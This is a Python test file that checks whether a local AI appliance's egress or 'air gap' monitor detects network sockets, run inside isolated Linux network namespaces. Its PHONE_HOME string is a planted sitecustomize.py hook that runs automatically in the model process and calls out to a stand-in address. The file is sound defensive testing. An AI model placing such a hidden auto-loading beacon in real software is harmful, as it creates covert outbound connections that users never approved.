"""What `test_egress` runs in a network of its own: `python -m tests.security.in_namespace quiet|tcp|udp FOLDER`.

There is nothing outside this network, so nothing can leave it. `quiet` has only loopback. The others have a second
machine, which is another network namespace at the end of a virtual cable, and a model's process that calls it.
"""

import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx2

from tests.simulators.errands import KEY, QUESTION, answer, ask, browser, house, upload
from tests.simulators.served import ServedBox
from tests.simulators.waiting import eventually

OURS, THEIRS, PORT = "192.0.2.1", "192.0.2.2", 4711
"""Addresses for documentation, which belong to nobody."""

TABLES = ("tcp", "tcp6", "udp", "udp6", "udplite", "udplite6", "raw", "raw6", "icmp", "icmp6", "packet")
LOOPBACK = ("0100007F", "00000000000000000000000001000000", "0000000000000000FFFF00000100007F")

PHONE_HOME = f"""
import socket, sys, threading, time
def call():
    kind = socket.SOCK_DGRAM if {{udp}} else socket.SOCK_STREAM
    line = socket.socket(socket.AF_INET, kind)
    if {{udp}}:
        while True:
            line.sendto(b"hello", ("{THEIRS}", {PORT}))
            time.sleep(0.2)
    line.connect(("{THEIRS}", {PORT}))
    time.sleep(1000)
if "appliance.inference.child" in sys.orig_argv:
    threading.Thread(target=call, daemon=True).start()
"""
"""A library of a model's process that does what no library should: Python loads it before everything else."""

SINK = f"""
import socket
kinds = {{{{"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}}}}
line = socket.socket(socket.AF_INET, kinds["{{kind}}"])
line.bind(("{THEIRS}", {PORT}))
if "{{kind}}" == "tcp":
    line.listen()
print("listening", flush=True)
caught = line.accept()[0] if "{{kind}}" == "tcp" else line.recv(100)
print("caught", flush=True)
input()
"""


def run(*words: str) -> None:
    subprocess.run(words, check=True)


def gap(person: httpx2.Client) -> str:
    return str(person.get("/api/v1/state").json()["gap"]["state"])


def looked_anew(person: httpx2.Client, wanted: str) -> bool:
    """The box looks every ten seconds at most."""
    return eventually(lambda: bool(time.sleep(0.2) or gap(person) == wanted), 30)


# -- only loopback


def strangers(port: int) -> list[str]:
    """Sockets of this network that are neither the box's door nor a visitor's at that door."""
    paths = [path for path in (Path("/proc/net") / table for table in TABLES) if path.exists()]
    return [
        f"{path.name}: {line}"
        for path in paths
        for line in path.read_text("ascii").splitlines()[1:]
        if not (path.name.startswith("tcp") and at_the_door(line, port))
    ]


def at_the_door(line: str, port: int) -> bool:
    (local, local_port), (remote, remote_port) = (end.rsplit(":", 1) for end in line.split()[1:3])
    is_listening = line.split()[3] == "0A"
    inside = local in LOOPBACK and (is_listening or remote in LOOPBACK)
    return inside and port in (int(local_port, 16), int(remote_port, 16))


def quiet(folder: Path) -> None:
    """The whole box at work: no socket but its door, and the watch sees that."""
    seen: list[str] = []
    over = threading.Event()

    def watch(port: int) -> None:
        while not over.wait(0.01):
            seen.extend(strangers(port))

    box = ServedBox(folder / "v")
    watcher = threading.Thread(target=watch, args=(box.port,), daemon=True)
    watcher.start()
    with box, browser(box) as nina:
        base = house(box)
        upload(nina, nina.post("/api/v1/bases", json={"name": "mine"}).json()["id"], "a.md", KEY.encode())
        chat = nina.post("/api/v1/chats", json={"base_ids": [base]}).json()["id"]
        assert ask(nina, chat, QUESTION).status_code == 201
        assert eventually(lambda: answer(nina, chat)["state"] == "done")
        assert "blue door" in answer(nina, chat)["text"]
        body = {"model": "talker", "messages": [{"role": "user", "content": "[[words 3]] hi"}]}
        assert nina.post("/v1/chat/completions", json=body).status_code == 200
        assert "blue door" in box.hako("ask", QUESTION, "--kb", "house").stdout
        assert gap(nina) == "closed"
        assert "Air gap: Closed" in box.hako("doctor", "--look").stdout
        over.set()
        watcher.join(10)
    assert not seen, seen[:5]


# -- a second machine


@contextmanager
def second_machine(kind: str) -> Iterator[subprocess.Popen[str]]:
    """Another network at the end of a cable, with somebody who listens."""
    holder = subprocess.Popen(["unshare", "-n", "sleep", "600"])
    here = os.readlink("/proc/self/ns/net")  # noqa: PTH115 - no path, a name
    assert eventually(lambda: os.readlink(f"/proc/{holder.pid}/ns/net") != here)  # noqa: PTH115
    inside = ("nsenter", "-t", str(holder.pid), "-n")
    run("ip", "link", "add", "name", "cable", "type", "veth", "peer", "name", "plug", "netns", str(holder.pid))
    run("ip", "addr", "add", f"{OURS}/30", "dev", "cable")
    run("ip", "link", "set", "cable", "up")
    run(*inside, "ip", "addr", "add", f"{THEIRS}/30", "dev", "plug")
    run(*inside, "ip", "link", "set", "plug", "up")
    sink = subprocess.Popen(
        [*inside, sys.executable, "-c", SINK.format(kind=kind)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert sink.stdout
        assert sink.stdout.readline() == "listening\n"
        yield sink
    finally:
        sink.kill()
        sink.wait()
        holder.kill()
        holder.wait()


def planted(kind: str, folder: Path) -> None:
    """A model's process calls the second machine: the watch says so, as long as it is there."""
    library = folder / "library"
    library.mkdir()
    (library / "sitecustomize.py").write_text(PHONE_HOME.format(udp=kind == "udp"), "utf-8")
    with second_machine(kind) as sink:
        os.environ["PYTHONPATH"] = f"{library}:{os.environ.get('PYTHONPATH', '')}"
        with ServedBox(folder / "v") as box, browser(box) as nina:
            assert sink.stdout
            assert sink.stdout.readline() == "caught\n"  # without a guard it would really have left
            assert looked_anew(nina, "open")
            if kind == "udp":
                return
            with box.client() as operator:
                for model in ("talker", "embedder"):
                    operator.post(f"/models/{model}/unload", {})
            assert looked_anew(nina, "closed")


if __name__ == "__main__":
    run("ip", "link", "set", "lo", "up")
    what, where = sys.argv[1], Path(sys.argv[2])
    if what == "quiet":
        quiet(where)
    else:
        planted(what, where)
    print("all is well")
